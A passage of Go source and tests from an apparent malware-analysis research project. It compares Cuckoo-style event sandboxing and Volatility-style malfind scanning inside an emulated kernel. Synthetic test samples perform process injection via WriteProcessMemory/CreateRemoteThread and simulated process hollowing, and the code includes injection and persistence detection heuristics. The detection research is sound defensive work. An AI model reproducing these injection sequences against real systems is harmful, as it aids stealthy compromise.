	k.FS.Install(path, raw)
}

type silent struct{}

func (silent) OnConnect(gnet.Flow) []gnet.Reply      { return nil }
func (silent) OnData(gnet.Flow, []byte) []gnet.Reply { return nil }

func TestSandboxObservesBehaviour(t *testing.T) {
	k, err := guest.NewKernel()
	if err != nil {
		t.Fatal(err)
	}
	sb := Attach(k)
	k.Net.AddEndpoint(gnet.Addr{IP: "10.1.1.1", Port: 443}, silent{})

	b := peimg.NewBuilder("busy.exe")
	b.DataBlk.Label("ip").DataString("10.1.1.1")
	b.DataBlk.Label("out").DataString("dropped.txt")
	b.DataBlk.Label("dll").DataString("helper.dll")
	b.CallImport("Socket")
	b.Text.Mov(isa.EBP, isa.EAX)
	b.Text.Mov(isa.EBX, isa.EBP)
	b.Text.Movi(isa.ECX, b.MustDataVA("ip"))
	b.Text.Movi(isa.EDX, 443)
	b.CallImport("Connect")
	b.Text.Movi(isa.EBX, b.MustDataVA("out"))
	b.CallImport("CreateFileA")
	b.Text.Movi(isa.EBX, b.MustDataVA("dll"))
	b.CallImport("LoadLibraryA") // fails (no such file) but is observed
	b.Text.Movi(isa.EBX, 0)
	b.CallImport("ExitProcess")
	install(t, k, b, "busy.exe")
	if _, err := k.Spawn("busy.exe", false, 0); err != nil {
		t.Fatal(err)
	}
	if _, err := k.Run(100_000); err != nil {
		t.Fatal(err)
	}

	r := sb.Analyze()
	if len(r.Processes) != 1 {
		t.Fatalf("report = %+v", r)
	}
	pr := r.Processes[0]
	if len(pr.Netflows) != 1 || pr.Netflows[0] != "10.1.1.1:443" {
		t.Errorf("netflows = %v", pr.Netflows)
	}
	if len(pr.FilesWrote) != 1 || pr.FilesWrote[0] != "dropped.txt" {
		t.Errorf("files = %v", pr.FilesWrote)
	}
	if len(pr.LoadedDLLs) != 1 || pr.LoadedDLLs[0] != "helper.dll" {
		t.Errorf("dlls = %v", pr.LoadedDLLs)
	}
	if !strings.Contains(strings.Join(pr.APICalls, ","), "NtConnect") {
		t.Errorf("api calls = %v", pr.APICalls)
	}
	if r.FlaggedInjection() {
		t.Error("benign program flagged")
	}
	if r.HasProvenance() {
		t.Error("event sandbox claims provenance")
	}
	if !r.DLLListedAnywhere("helper.dll") || r.DLLListedAnywhere("ghost.dll") {
		t.Error("DLL listing broken")
	}
	out := r.String()
	for _, want := range []string{"busy.exe", "10.1.1.1:443", "dropped.txt"} {
		if !strings.Contains(out, want) {
			t.Errorf("render missing %q:\n%s", want, out)
		}
	}
}

func TestSandboxFlagsInjectionAPISequence(t *testing.T) {
	k, err := guest.NewKernel()
	if err != nil {
		t.Fatal(err)
	}
	sb := Attach(k)

	victim := peimg.NewBuilder("victim.exe")
	victim.Text.Label("spin")
	victim.Text.Movi(isa.EBX, 100)
	victim.CallImport("Sleep")
	victim.Text.Jmp("spin")
	install(t, k, victim, "victim.exe")

	inj := peimg.NewBuilder("inj.exe")
	inj.DataBlk.Label("v").DataString("victim.exe")
	inj.DataBlk.Label("code").Data(isa.NewBlock().Nop().Ret().MustAssemble(0))
	inj.Text.Movi(isa.EBX, inj.MustDataVA("v"))
	inj.CallImport("FindProcessA")
	inj.Text.Mov(isa.EBX, isa.EAX)
	inj.CallImport("OpenProcess")
	inj.Text.Mov(isa.EBP, isa.EAX)
	inj.Text.Mov(isa.EBX, isa.EBP)
	inj.Text.Movi(isa.ECX, 0)
	inj.Text.Movi(isa.EDX, 16)
	inj.Text.Movi(isa.ESI, 7)
	inj.CallImport("VirtualAlloc")
	inj.Text.Mov(isa.ECX, isa.EAX)
	inj.Text.Mov(isa.EBX, isa.EBP)
	inj.Text.Movi(isa.EDX, inj.MustDataVA("code"))
	inj.Text.Movi(isa.ESI, 16)
	inj.CallImport("WriteProcessMemory")
	inj.Text.Movi(isa.ECX, 0x20000000)
	inj.Text.Mov(isa.EBX, isa.EBP)
	inj.CallImport("CreateRemoteThread")
	inj.Text.Movi(isa.EBX, 0)
	inj.CallImport("ExitProcess")
	install(t, k, inj, "inj.exe")

	if _, err := k.Spawn("victim.exe", false, 0); err != nil {
		t.Fatal(err)
	}
	if _, err := k.Spawn("inj.exe", false, 0); err != nil {
		t.Fatal(err)
	}
	if _, err := k.Run(500_000); err != nil {
		t.Fatal(err)
	}
	r := sb.Analyze()
	if !r.FlaggedInjection() {
		t.Errorf("API sequence not flagged: %s", r.String())
	}
	// The verdict must admit it cannot identify the payload.
	joined := strings.Join(r.Verdicts, "\n")
	if !strings.Contains(joined, "unknown") {
		t.Errorf("verdict overclaims: %v", r.Verdicts)
	}
}

// Package cuckoo implements the CuckooBox-style baseline of the paper's
// Section VI.B: an event-based sandbox that observes system calls, file
// system activity, network traffic, process trees, and DLL load events —
// everything *except* memory contents.
//
// Its detection logic mirrors what real event-based sandboxes can conclude:
// it reports a process's loaded-DLL list (reflective injection never
// appears there), the process tree (hollowed children look legitimate),
// and per-process API traces. It cannot link any of it to memory or to a
// network origin, which is precisely the gap FAROS fills.
package cuckoo

import (
	"fmt"
	"sort"
	"strings"

	"faros/internal/guest"
	"faros/internal/syscalls"
)

// ProcessReport is the per-process section of a sandbox report.
type ProcessReport struct {
	PID        uint32
	Name       string
	Parent     uint32
	APICalls   []string
	LoadedDLLs []string
	FilesRead  []string
	FilesWrote []string
	Netflows   []string
	RegWrites  []string
	ExitState  string
}

// Report is the full sandbox output for one run.
type Report struct {
	Processes []ProcessReport
	// FSJournal is the filesystem activity journal.
	FSJournal []string
	// Verdicts lists heuristic conclusions the sandbox can draw from
	// events alone.
	Verdicts []string
}

// Sandbox observes a kernel run.
type Sandbox struct {
	k      *guest.Kernel
	tracer *syscalls.Tracer

	dllLoads   map[uint32][]string
	filesRead  map[uint32]map[string]bool
	filesWrote map[uint32]map[string]bool
	netflows   map[uint32][]string
	regWrites  map[uint32][]string
}

// Attach installs the sandbox observers on a kernel.
func Attach(k *guest.Kernel) *Sandbox {
	s := &Sandbox{
		k:          k,
		tracer:     syscalls.Attach(k),
		dllLoads:   make(map[uint32][]string),
		filesRead:  make(map[uint32]map[string]bool),
		filesWrote: make(map[uint32]map[string]bool),
		netflows:   make(map[uint32][]string),
		regWrites:  make(map[uint32][]string),
	}
	k.OnSyscall(func(p *guest.Process, no uint32, args [4]uint32) {
		switch no {
		case guest.SysLoadLibrary:
			if name, err := p.Space.ReadCString(args[0], 256); err == nil {
				s.dllLoads[p.PID] = append(s.dllLoads[p.PID], name)
			}
		case guest.SysOpenFile, guest.SysReadFile:
			// File names only observable at open; reads tracked by handle
			// would need handle table introspection — record opens.
			if no == guest.SysOpenFile {
				if name, err := p.Space.ReadCString(args[0], 256); err == nil {
					s.mark(s.filesRead, p.PID, name)
				}
			}
		case guest.SysCreateFile:
			if name, err := p.Space.ReadCString(args[0], 256); err == nil {
				s.mark(s.filesWrote, p.PID, name)
			}
		case guest.SysConnect:
			if ip, err := p.Space.ReadCString(args[1], 256); err == nil {
				s.netflows[p.PID] = append(s.netflows[p.PID], fmt.Sprintf("%s:%d", ip, args[2]))
			}
		case guest.SysRegSet:
			if key, err := p.Space.ReadCString(args[0], 256); err == nil {
				s.regWrites[p.PID] = append(s.regWrites[p.PID], key)
			}
		}
	})
	return s
}

func (s *Sandbox) mark(m map[uint32]map[string]bool, pid uint32, name string) {
	if m[pid] == nil {
		m[pid] = make(map[string]bool)
	}
	m[pid][name] = true
}

func sortedKeys(m map[string]bool) []string {
	out := make([]string, 0, len(m))
	for k := range m {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}

// Tracer exposes the underlying syscall trace.
func (s *Sandbox) Tracer() *syscalls.Tracer { return s.tracer }

// Analyze builds the report after the run finished.
func (s *Sandbox) Analyze() *Report {
	r := &Report{FSJournal: append([]string(nil), s.k.FS.Journal...)}
	for _, p := range s.k.Processes() {
		pr := ProcessReport{
			PID:        p.PID,
			Name:       p.Name,
			Parent:     p.Parent,
			LoadedDLLs: append([]string(nil), s.dllLoads[p.PID]...),
			FilesRead:  sortedKeys(s.filesRead[p.PID]),
			FilesWrote: sortedKeys(s.filesWrote[p.PID]),
			Netflows:   append([]string(nil), s.netflows[p.PID]...),
			RegWrites:  append([]string(nil), s.regWrites[p.PID]...),
			ExitState:  p.State.String(),
		}
		seen := make(map[string]bool)
		for _, rec := range s.tracer.ForProcess(p.PID) {
			if !seen[rec.Name] {
				seen[rec.Name] = true
				pr.APICalls = append(pr.APICalls, rec.Name)
			}
		}
		r.Processes = append(r.Processes, pr)
	}
	r.Verdicts = s.verdicts(r)
	return r
}

// verdicts applies event-level heuristics. Deliberately mirrors the paper's
// findings: an event-based sandbox sees the *API surface* of an injection
// but cannot tie it to memory contents or provenance, and it cannot see a
// reflectively loaded DLL in any module list.
func (s *Sandbox) verdicts(r *Report) []string {
	var out []string
	for _, pr := range r.Processes {
		calls := make(map[string]bool)
		for _, c := range pr.APICalls {
			calls[c] = true
		}
		// Classic injection API sequence is visible as events...
		if calls["NtOpenProcess"] && calls["NtWriteVirtualMemory"] && calls["NtCreateThreadEx"] {
			out = append(out, fmt.Sprintf(
				"%s(%d): suspicious cross-process API sequence (OpenProcess+WriteVirtualMemory+CreateThread) — payload content, origin and injected module unknown",
				pr.Name, pr.PID))
		}
		// ...but nothing distinguishes what was written, and the loaded-DLL
		// list stays clean for reflective loads.

		// Registry persistence (Run keys) is a classic event-level verdict.
		for _, key := range pr.RegWrites {
			if strings.Contains(key, `\Run\`) || strings.HasSuffix(key, `\Run`) {
				out = append(out, fmt.Sprintf("%s(%d): registry persistence via %s", pr.Name, pr.PID, key))
			}
		}
	}
	return out
}

// FlaggedInjection reports whether any verdict names an injection-shaped
// event sequence.
func (r *Report) FlaggedInjection() bool {
	for _, v := range r.Verdicts {
		if strings.Contains(v, "suspicious cross-process API sequence") {
			return true
		}
	}
	return false
}

// DLLListedAnywhere reports whether the named module shows up in any
// process's loaded-DLL list (a reflectively injected DLL never does).
func (r *Report) DLLListedAnywhere(name string) bool {
	for _, pr := range r.Processes {
		for _, dll := range pr.LoadedDLLs {
			if dll == name {
				return true
			}
		}
	}
	return false
}

// HasProvenance always returns false: the defining limitation the paper's
// comparison table records. An event sandbox has no byte-level provenance.
func (r *Report) HasProvenance() bool { return false }

// String renders the report.
func (r *Report) String() string {
	var sb strings.Builder
	sb.WriteString("== Cuckoo-style sandbox report ==\n")
	for _, pr := range r.Processes {
		fmt.Fprintf(&sb, "process %s (pid %d, parent %d, %s)\n", pr.Name, pr.PID, pr.Parent, pr.ExitState)
		if len(pr.APICalls) > 0 {
			fmt.Fprintf(&sb, "  APIs: %s\n", strings.Join(pr.APICalls, ", "))
		}
		if len(pr.LoadedDLLs) > 0 {
			fmt.Fprintf(&sb, "  DLLs: %s\n", strings.Join(pr.LoadedDLLs, ", "))
		}
		if len(pr.Netflows) > 0 {
			fmt.Fprintf(&sb, "  netflows: %s\n", strings.Join(pr.Netflows, ", "))
		}
		if len(pr.FilesWrote) > 0 {
			fmt.Fprintf(&sb, "  files written: %s\n", strings.Join(pr.FilesWrote, ", "))
		}
		if len(pr.RegWrites) > 0 {
			fmt.Fprintf(&sb, "  registry writes: %s\n", strings.Join(pr.RegWrites, ", "))
		}
	}
	for _, v := range r.Verdicts {
		fmt.Fprintf(&sb, "verdict: %s\n", v)
	}
	return sb.String()
}

// Package malfind implements the Volatility-style memory-snapshot baseline
// of the paper's Section VI.B: pslist, vadinfo, and the malfind scan.
//
// It inspects a *single point-in-time snapshot* at the end of a run: for
// each process it walks the VAD list looking for private, executable,
// writable regions that are not backed by a loaded module yet contain
// plausible code or an image header. That catches persistent injections —
// but, exactly as the paper argues, a transient payload that erased itself
// before the snapshot leaves nothing to find, and even a hit carries no
// provenance: no netflow, no injecting process, no history.
package malfind

import (
	"fmt"
	"strings"

	"faros/internal/guest"
	"faros/internal/isa"
	"faros/internal/mem"
	"faros/internal/peimg"
)

// Hit is one suspicious region found by the scan.
type Hit struct {
	PID    uint32
	Proc   string
	Base   uint32
	Size   uint32
	Perm   mem.Perm
	Reason string
	// Preview is a short disassembly of the region head.
	Preview string
}

// Report is the result of a snapshot scan.
type Report struct {
	PSList  []string
	VADInfo []string
	Hits    []Hit
}

// minCodeRun is how many consecutive valid instructions the scanner
// requires before calling bytes "code".
const minCodeRun = 4

// Scan inspects the kernel's current memory state (the end-of-run
// snapshot).
func Scan(k *guest.Kernel) *Report {
	r := &Report{}
	for _, p := range k.Processes() {
		r.PSList = append(r.PSList, fmt.Sprintf("pid=%d name=%s parent=%d state=%s", p.PID, p.Name, p.Parent, p.State))
		for _, vad := range p.VADs {
			r.VADInfo = append(r.VADInfo, fmt.Sprintf("pid=%d %s", p.PID, vad))
			if hit, ok := scanVAD(p, vad); ok {
				r.Hits = append(r.Hits, hit)
			}
		}
	}
	return r
}

// scanVAD applies the malfind heuristic to one region.
func scanVAD(p *guest.Process, vad guest.VAD) (Hit, bool) {
	// Heuristic: private (not image-backed) + writable + executable.
	if vad.Kind != guest.VADPrivate {
		return Hit{}, false
	}
	if vad.Perm&mem.PermExec == 0 || vad.Perm&mem.PermWrite == 0 {
		return Hit{}, false
	}
	// Read the head of the region from the *snapshot* (present memory).
	head := make([]byte, 0, 64)
	for i := uint32(0); i < 64 && i < vad.Size; i++ {
		b, err := p.Space.ReadByteAt(vad.Base+i, mem.AccessRead)
		if err != nil {
			break
		}
		head = append(head, b)
	}
	reason := ""
	switch {
	case peimg.IsImage(head):
		reason = "unbacked RWX region contains an MZ32 image header"
	case isa.LooksLikeCode(head, minCodeRun) && !allZero(head):
		reason = "unbacked RWX region contains valid code"
	default:
		return Hit{}, false
	}
	return Hit{
		PID:     p.PID,
		Proc:    p.Name,
		Base:    vad.Base,
		Size:    vad.Size,
		Perm:    vad.Perm,
		Reason:  reason,
		Preview: isa.DisasmBytes(head[:minCodeRun*isa.InstrSize], vad.Base),
	}, true
}

func allZero(b []byte) bool {
	for _, v := range b {
		if v != 0 {
			return false
		}
	}
	return true
}

// Flagged reports whether the scan found anything.
func (r *Report) Flagged() bool { return len(r.Hits) > 0 }

// HasProvenance always returns false: a snapshot has no history. This is
// the comparison row the paper emphasizes — malfind can sometimes find the
// artifact, never the story.
func (r *Report) HasProvenance() bool { return false }

// String renders the report.
func (r *Report) String() string {
	var sb strings.Builder
	sb.WriteString("== Volatility-style snapshot report ==\n")
	sb.WriteString("pslist:\n")
	for _, l := range r.PSList {
		sb.WriteString("  " + l + "\n")
	}
	if len(r.Hits) == 0 {
		sb.WriteString("malfind: no suspicious regions\n")
		return sb.String()
	}
	for _, h := range r.Hits {
		fmt.Fprintf(&sb, "malfind: %s(%d) region 0x%08X+0x%X %s — %s\n", h.Proc, h.PID, h.Base, h.Size, h.Perm, h.Reason)
	}
	return sb.String()
}

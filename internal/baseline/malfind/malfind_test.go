package malfind

import (
	"strings"
	"testing"

	"faros/internal/guest"
	"faros/internal/isa"
	"faros/internal/mem"
	"faros/internal/peimg"
)

func spawnIdle(t *testing.T, k *guest.Kernel, name string) *guest.Process {
	t.Helper()
	b := peimg.NewBuilder(name)
	b.Text.Label("spin")
	b.Text.Movi(isa.EBX, 100)
	b.CallImport("Sleep")
	b.Text.Jmp("spin")
	raw, err := b.BuildBytes()
	if err != nil {
		t.Fatal(err)
	}
	k.FS.Install(name, raw)
	p, err := k.Spawn(name, false, 0)
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func TestScanCleanSystem(t *testing.T) {
	k, err := guest.NewKernel()
	if err != nil {
		t.Fatal(err)
	}
	spawnIdle(t, k, "clean.exe")
	r := Scan(k)
	if r.Flagged() {
		t.Errorf("clean process flagged: %+v", r.Hits)
	}
	if len(r.PSList) != 1 || !strings.Contains(r.PSList[0], "clean.exe") {
		t.Errorf("pslist = %v", r.PSList)
	}
	if len(r.VADInfo) == 0 {
		t.Error("no vadinfo")
	}
	if !strings.Contains(r.String(), "no suspicious regions") {
		t.Error("clean render broken")
	}
	if r.HasProvenance() {
		t.Error("snapshot scanner claims provenance")
	}
}

// plantRWX maps an RWX private region in the process and writes content
// into it, simulating what an injector leaves behind.
func plantRWX(t *testing.T, k *guest.Kernel, p *guest.Process, content []byte) uint32 {
	t.Helper()
	const base = 0x30000000
	if err := p.Space.Map(base, mem.PagesSpanned(base, uint32(len(content)))+1, mem.PermRWX); err != nil {
		t.Fatal(err)
	}
	p.AddVAD(guest.VAD{Base: base, Size: 0x2000, Perm: mem.PermRWX, Kind: guest.VADPrivate})
	if err := p.Space.WriteBytes(base, content); err != nil {
		t.Fatal(err)
	}
	_ = k
	return base
}

func TestScanFindsInjectedCode(t *testing.T) {
	k, err := guest.NewKernel()
	if err != nil {
		t.Fatal(err)
	}
	p := spawnIdle(t, k, "victim.exe")
	code := isa.NewBlock().Movi(isa.EAX, 1).Movi(isa.EBX, 2).Add(isa.EAX, isa.EBX).Ret().MustAssemble(0)
	base := plantRWX(t, k, p, code)
	r := Scan(k)
	if !r.Flagged() {
		t.Fatal("injected code not found")
	}
	hit := r.Hits[0]
	if hit.Base != base || hit.Proc != "victim.exe" || !strings.Contains(hit.Reason, "valid code") {
		t.Errorf("hit = %+v", hit)
	}
	if !strings.Contains(hit.Preview, "MOV EAX") {
		t.Errorf("preview = %q", hit.Preview)
	}
	if !strings.Contains(r.String(), "malfind: victim.exe") {
		t.Errorf("render = %s", r.String())
	}
}

func TestScanFindsImageHeader(t *testing.T) {
	k, err := guest.NewKernel()
	if err != nil {
		t.Fatal(err)
	}
	p := spawnIdle(t, k, "victim.exe")
	img := &peimg.Image{Name: "evil.dll", Base: 0x40000000}
	raw, err := img.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	plantRWX(t, k, p, raw)
	r := Scan(k)
	if !r.Flagged() || !strings.Contains(r.Hits[0].Reason, "MZ32 image header") {
		t.Errorf("hits = %+v", r.Hits)
	}
}

func TestScanMissesErasedPayload(t *testing.T) {
	// The transient-attack blind spot: a zeroed region head is invisible.
	k, err := guest.NewKernel()
	if err != nil {
		t.Fatal(err)
	}
	p := spawnIdle(t, k, "victim.exe")
	plantRWX(t, k, p, make([]byte, 64))
	r := Scan(k)
	if r.Flagged() {
		t.Errorf("zeroed region flagged: %+v", r.Hits)
	}
}

func TestScanIgnoresNonExecutableAndImageRegions(t *testing.T) {
	k, err := guest.NewKernel()
	if err != nil {
		t.Fatal(err)
	}
	p := spawnIdle(t, k, "victim.exe")
	code := isa.NewBlock().Movi(isa.EAX, 1).Movi(isa.EBX, 2).Add(isa.EAX, isa.EBX).Ret().MustAssemble(0)
	// rw- private data containing code bytes: not suspicious to malfind.
	const base = 0x31000000
	if err := p.Space.Map(base, 1, mem.PermRW); err != nil {
		t.Fatal(err)
	}
	p.AddVAD(guest.VAD{Base: base, Size: 0x1000, Perm: mem.PermRW, Kind: guest.VADPrivate})
	if err := p.Space.WriteBytes(base, code); err != nil {
		t.Fatal(err)
	}
	r := Scan(k)
	if r.Flagged() {
		t.Errorf("rw- region flagged: %+v", r.Hits)
	}
}

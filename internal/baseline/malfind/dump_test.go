package malfind

import (
	"strings"
	"testing"

	"faros/internal/guest"
	"faros/internal/isa"
	"faros/internal/peimg"
)

func TestVADDumpRecoversInjectedPayload(t *testing.T) {
	k, err := guest.NewKernel()
	if err != nil {
		t.Fatal(err)
	}
	p := spawnIdle(t, k, "victim.exe")
	payload := isa.NewBlock().Movi(isa.EAX, 0xABCD).Ret().MustAssemble(0)
	base := plantRWX(t, k, p, payload)

	data, vad, err := VADDump(k, p.PID, base+4)
	if err != nil {
		t.Fatal(err)
	}
	if vad.Base != base || len(data) < len(payload) {
		t.Fatalf("vad=%+v len=%d", vad, len(data))
	}
	if string(data[:len(payload)]) != string(payload) {
		t.Error("dumped bytes differ from payload")
	}
	if _, _, err := VADDump(k, p.PID, 0x99990000); err == nil {
		t.Error("dump of unmapped va accepted")
	}
	if _, _, err := VADDump(k, 9999, base); err == nil {
		t.Error("dump of unknown pid accepted")
	}
}

func TestProcDumpCarvesImage(t *testing.T) {
	k, err := guest.NewKernel()
	if err != nil {
		t.Fatal(err)
	}
	p := spawnIdle(t, k, "intact.exe")
	img, err := ProcDump(k, p.PID)
	if err != nil {
		t.Fatal(err)
	}
	if len(img.Sections) == 0 || !strings.Contains(img.Name, "carved") {
		t.Errorf("carved image = %+v", img)
	}
	// The carved text must contain valid code.
	var text []byte
	for _, s := range img.Sections {
		if s.VA == peimg.TextOff {
			text = s.Data
		}
	}
	if text == nil || !isa.LooksLikeCode(text, 2) {
		t.Error("carved text not code")
	}
	if _, err := ProcDump(k, 4242); err == nil {
		t.Error("procdump of unknown pid accepted")
	}
}

func TestProcDumpDetectsHollowedProcess(t *testing.T) {
	k, err := guest.NewKernel()
	if err != nil {
		t.Fatal(err)
	}
	p := spawnIdle(t, k, "hollowme.exe")
	// Simulate NtUnmapViewOfSection of the whole image.
	for _, v := range p.VADs {
		if v.Kind == guest.VADImage {
			p.Space.Unmap(v.Base, int(v.Size)/4096)
		}
	}
	if _, err := ProcDump(k, p.PID); err == nil || !strings.Contains(err.Error(), "hollowed") {
		t.Errorf("hollowed procdump = %v", err)
	}
}

func TestStringsIn(t *testing.T) {
	data := append([]byte{0, 1, 2}, []byte("hello world")...)
	data = append(data, 0xFF, 'h', 'i', 0, 'x')
	got := StringsIn(data, 4)
	if len(got) != 1 || got[0] != "hello world" {
		t.Errorf("strings = %v", got)
	}
	got = StringsIn(data, 2)
	if len(got) != 2 || got[1] != "hi" {
		t.Errorf("strings = %v", got)
	}
	if StringsIn(nil, 1) != nil {
		t.Error("empty input")
	}
}

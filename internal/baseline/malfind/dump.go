package malfind

import (
	"fmt"
	"strings"

	"faros/internal/guest"
	"faros/internal/mem"
	"faros/internal/peimg"
)

// Volatility-style extraction commands beyond the malfind scan: vaddump
// (extract a region's bytes from the snapshot) and procdump (carve a
// process's main image back out of memory). Analysts use these to recover
// injected payloads once malfind locates them.

// VADDump extracts the memory of the VAD containing va in process pid.
func VADDump(k *guest.Kernel, pid, va uint32) ([]byte, guest.VAD, error) {
	p, ok := k.Process(pid)
	if !ok {
		return nil, guest.VAD{}, fmt.Errorf("malfind: no process %d", pid)
	}
	vad, ok := p.FindVAD(va)
	if !ok {
		return nil, guest.VAD{}, fmt.Errorf("malfind: no VAD containing 0x%08X in pid %d", va, pid)
	}
	out := make([]byte, 0, vad.Size)
	for off := uint32(0); off < vad.Size; off++ {
		b, err := p.Space.ReadByteAt(vad.Base+off, mem.AccessRead)
		if err != nil {
			// Partially unmapped region (hollowed): stop at the hole.
			break
		}
		out = append(out, b)
	}
	return out, vad, nil
}

// ProcDump reconstructs the main image of a process from its image VADs,
// as Volatility's procdump rebuilds a PE from memory. Hollowed processes
// yield an error: their image regions are gone — itself a finding.
func ProcDump(k *guest.Kernel, pid uint32) (*peimg.Image, error) {
	p, ok := k.Process(pid)
	if !ok {
		return nil, fmt.Errorf("malfind: no process %d", pid)
	}
	if p.Img == nil {
		return nil, fmt.Errorf("malfind: pid %d has no image metadata", pid)
	}
	img := &peimg.Image{Name: p.Img.Name + " (carved)", Base: p.Img.Base, Entry: p.Img.Entry}
	found := false
	for _, vad := range p.VADs {
		if vad.Kind != guest.VADImage {
			continue
		}
		if !p.Space.IsMapped(vad.Base) {
			continue // unmapped by hollowing
		}
		data := make([]byte, 0, vad.Size)
		for off := uint32(0); off < vad.Size; off++ {
			b, err := p.Space.ReadByteAt(vad.Base+off, mem.AccessRead)
			if err != nil {
				break
			}
			data = append(data, b)
		}
		perm, _ := p.Space.PermOf(vad.Base)
		img.Sections = append(img.Sections, peimg.Section{
			Name: fmt.Sprintf(".carved_%08x", vad.Base),
			VA:   vad.Base - img.Base,
			Perm: perm,
			Data: data,
		})
		found = true
	}
	if !found {
		return nil, fmt.Errorf("malfind: pid %d (%s): no image regions mapped — hollowed?", pid, p.Name)
	}
	return img, nil
}

// StringsIn extracts printable ASCII runs of at least minLen from a dump,
// the classic triage step over carved payloads.
func StringsIn(data []byte, minLen int) []string {
	var out []string
	var cur strings.Builder
	flush := func() {
		if cur.Len() >= minLen {
			out = append(out, cur.String())
		}
		cur.Reset()
	}
	for _, b := range data {
		if b >= 0x20 && b < 0x7F {
			cur.WriteByte(b)
		} else {
			flush()
		}
	}
	flush()
	return out
}

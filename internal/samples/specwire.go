package samples

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"

	"faros/internal/guest/gnet"
	"faros/internal/record"
)

// Spec wire format: a canonical, byte-stable serialization of a fully
// materialized Spec (programs as built bytes, endpoints as named scripts,
// scripted device events). Two uses:
//
//   - transport: farosd accepts serialized specs over HTTP, so a client can
//     submit a scenario the server binary does not have built in;
//   - identity: SpecHash is the SHA-256 of the canonical encoding, and the
//     pipeline result cache keys off it. Record/replay is byte-exact, so
//     two specs with equal hashes produce identical analysis results and a
//     cache hit is sound.
//
// Canonicality: encoding is pure Go structs through encoding/json (fixed
// field order), byte blobs are lowercase hex, and endpoint scripts are
// encoded by kind + parameters rather than by Go value, so
// marshal → unmarshal → marshal is byte-identical.

type programWire struct {
	Path string `json:"path"`
	Code string `json:"code"` // hex of the built MZ32 image
}

// scriptWire names one of the built-in endpoint scripts plus its
// parameters. Out-of-tree gnet.Endpoint implementations are not encodable
// and make MarshalSpec fail (the pipeline then treats the job as
// uncacheable rather than risking an unsound hash).
type scriptWire struct {
	Kind    string `json:"kind"`
	Delay   uint64 `json:"delay,omitempty"`
	Payload string `json:"payload,omitempty"` // hex
	Banner  string `json:"banner,omitempty"`  // hex
	Reply   string `json:"reply,omitempty"`   // hex
}

type endpointWire struct {
	IP     string     `json:"ip"`
	Port   uint16     `json:"port"`
	Script scriptWire `json:"script"`
}

type eventWire struct {
	At   uint64 `json:"at"`
	Kind uint8  `json:"kind"`
	Flow uint32 `json:"flow,omitempty"`
	Data string `json:"data,omitempty"` // hex
	Seq  uint32 `json:"seq,omitempty"`
	Sum  uint32 `json:"sum,omitempty"`
}

type specWire struct {
	Name       string         `json:"name"`
	Programs   []programWire  `json:"programs,omitempty"`
	AutoStart  []string       `json:"autostart,omitempty"`
	Endpoints  []endpointWire `json:"endpoints,omitempty"`
	Events     []eventWire    `json:"events,omitempty"`
	MaxInstr   uint64         `json:"max_instr,omitempty"`
	ExpectRule string         `json:"expect_rule,omitempty"`
	ExpectFlag bool           `json:"expect_flag,omitempty"`
}

func encodeScript(ep gnet.Endpoint) (scriptWire, error) {
	switch e := ep.(type) {
	case oneShot:
		return scriptWire{Kind: "oneshot", Delay: e.delay, Payload: hex.EncodeToString(e.payload)}, nil
	case sink:
		return scriptWire{Kind: "sink"}, nil
	case chatterbox:
		return scriptWire{
			Kind:   "chatterbox",
			Delay:  e.delay,
			Banner: hex.EncodeToString(e.banner),
			Reply:  hex.EncodeToString(e.reply),
		}, nil
	case shellC2:
		return scriptWire{Kind: "shellc2"}, nil
	case corpusC2:
		return scriptWire{Kind: "corpusc2"}, nil
	}
	return scriptWire{}, fmt.Errorf("samples: endpoint type %T has no wire encoding", ep)
}

func decodeScript(w scriptWire) (gnet.Endpoint, error) {
	unhex := func(s string) ([]byte, error) {
		if s == "" {
			return nil, nil
		}
		return hex.DecodeString(s)
	}
	switch w.Kind {
	case "oneshot":
		payload, err := unhex(w.Payload)
		if err != nil {
			return nil, fmt.Errorf("samples: script payload: %w", err)
		}
		return oneShot{delay: w.Delay, payload: payload}, nil
	case "sink":
		return sink{}, nil
	case "chatterbox":
		banner, err := unhex(w.Banner)
		if err != nil {
			return nil, fmt.Errorf("samples: script banner: %w", err)
		}
		reply, err := unhex(w.Reply)
		if err != nil {
			return nil, fmt.Errorf("samples: script reply: %w", err)
		}
		return chatterbox{banner: banner, reply: reply, delay: w.Delay}, nil
	case "shellc2":
		return shellC2{}, nil
	case "corpusc2":
		return corpusC2{}, nil
	}
	return nil, fmt.Errorf("samples: unknown endpoint script kind %q", w.Kind)
}

// MarshalSpec serializes a materialized Spec to its canonical wire form.
// It fails on endpoint types without a wire encoding.
func MarshalSpec(s Spec) ([]byte, error) {
	w := specWire{
		Name:       s.Name,
		AutoStart:  s.AutoStart,
		MaxInstr:   s.MaxInstr,
		ExpectRule: s.ExpectRule,
		ExpectFlag: s.ExpectFlag,
	}
	for _, p := range s.Programs {
		w.Programs = append(w.Programs, programWire{Path: p.Path, Code: hex.EncodeToString(p.Bytes)})
	}
	for _, ep := range s.Endpoints {
		script, err := encodeScript(ep.Endpoint)
		if err != nil {
			return nil, fmt.Errorf("%w (spec %q)", err, s.Name)
		}
		w.Endpoints = append(w.Endpoints, endpointWire{IP: ep.Addr.IP, Port: ep.Addr.Port, Script: script})
	}
	for _, ev := range s.Events {
		w.Events = append(w.Events, eventWire{
			At: ev.At, Kind: uint8(ev.Kind), Flow: ev.Flow,
			Data: hex.EncodeToString(ev.Data), Seq: ev.Seq, Sum: ev.Sum,
		})
	}
	return json.Marshal(w)
}

// UnmarshalSpec parses a canonical wire form back into a runnable Spec.
func UnmarshalSpec(data []byte) (Spec, error) {
	var w specWire
	if err := json.Unmarshal(data, &w); err != nil {
		return Spec{}, fmt.Errorf("samples: spec wire: %w", err)
	}
	if w.Name == "" {
		return Spec{}, fmt.Errorf("samples: spec wire: missing name")
	}
	s := Spec{
		Name:       w.Name,
		AutoStart:  w.AutoStart,
		MaxInstr:   w.MaxInstr,
		ExpectRule: w.ExpectRule,
		ExpectFlag: w.ExpectFlag,
	}
	for _, p := range w.Programs {
		code, err := hex.DecodeString(p.Code)
		if err != nil {
			return Spec{}, fmt.Errorf("samples: program %s: %w", p.Path, err)
		}
		s.Programs = append(s.Programs, Program{Path: p.Path, Bytes: code})
	}
	for _, ep := range w.Endpoints {
		script, err := decodeScript(ep.Script)
		if err != nil {
			return Spec{}, err
		}
		s.Endpoints = append(s.Endpoints, EndpointSpec{
